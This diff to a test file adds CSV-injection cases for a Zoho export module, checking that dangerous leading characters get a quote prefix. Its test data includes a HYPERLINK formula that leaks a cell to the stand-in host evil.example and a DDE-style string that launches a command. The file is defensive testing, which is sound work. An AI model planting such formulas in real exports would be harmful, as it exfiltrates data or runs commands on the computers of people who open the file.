@@ -170,3 +170,31 @@ RECORD_PATHS = [
     ("Leads?x=1", "1", None),
     ("", None, None),
 ]
+
+
+# --- CSV injection (app/zoho/export.py) --------------------------------------
+
+CSV_CELLS = [
+    # (Zoho value, the cell's text in a CSV export by default)
+    ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("+1", "'+1"),
+    ("-2", "'-2"),
+    ("\t=1+2", "'\t=1+2"),
+    ("\r=1+2", "'\r=1+2"),
+    # Deliberate: a phone number typed with its country code is text and keeps the quote too.
+    ("+44 20 7946 0958", "'+44 20 7946 0958"),
+    ("-555-0100", "'-555-0100"),
+    # Zoho numbers are numbers, not formulas: unchanged.
+    (-2, "-2"),
+    (-0.25, "-0.25"),
+    # Names of lookups, and lists, are text like any other.
+    ({"name": "=cmd()", "id": "1"}, "'=cmd()"),
+    (["@a", "b"], "'@a; b"),
+    # Not at the start: harmless, unchanged.
+    ("Ada = Countess", "Ada = Countess"),
+    ("a-b", "a-b"),
+    ("", ""),
+    (None, ""),
+    (True, "true"),
+]
